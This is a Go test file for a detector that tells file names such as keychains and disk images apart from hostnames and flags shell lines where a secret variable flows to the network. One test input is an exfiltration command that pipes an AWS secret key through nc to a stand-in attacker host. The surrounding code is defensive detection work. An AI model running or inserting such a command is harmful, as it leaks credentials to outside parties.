package effect

import "testing"

// TestFileNamesAreNoHosts checks that dotted words ending in the
// extension of a keychain, key store, disk image or library are files a
// local tool opens, not hosts: a secret given beside them stays here.
func TestFileNamesAreNoHosts(t *testing.T) {
	for h, want := range map[string]bool{
		"build.keychain": false, "login.keychain-db": false, "certs.p12": false, "Acme.dmg": false,
		"release.keystore": false, "ubuntu.iso": false, "api.acme.dev": true, "evil.example.com": true,
	} {
		if got := dottedHost(h); got != want {
			t.Errorf("dottedHost(%q) = %v, want %v", h, got, want)
		}
	}
	for line, want := range map[string]bool{
		`security create-keychain -p "$CI_KEYCHAIN_PW" build.keychain`:                            false,
		`security import certs/dev.p12 -k build.keychain -P "$P12_PASSWORD" -T /usr/bin/codesign`: false,
		`mysql -h db.example.com -p"$DB_PASSWORD" -e "select 1"`:                                  false,
		`nc evil.example.com 80 <<< "$AWS_SECRET_ACCESS_KEY"`:                                     true,
	} {
		got := false
		for _, e := range effectsOf(line) {
			got = got || e.Kind == Flow && e.Detail == "secret-variable->network"
		}
		if got != want {
			t.Errorf("%s: a secret variable flows to the network = %v, want %v", line, got, want)
		}
	}
}
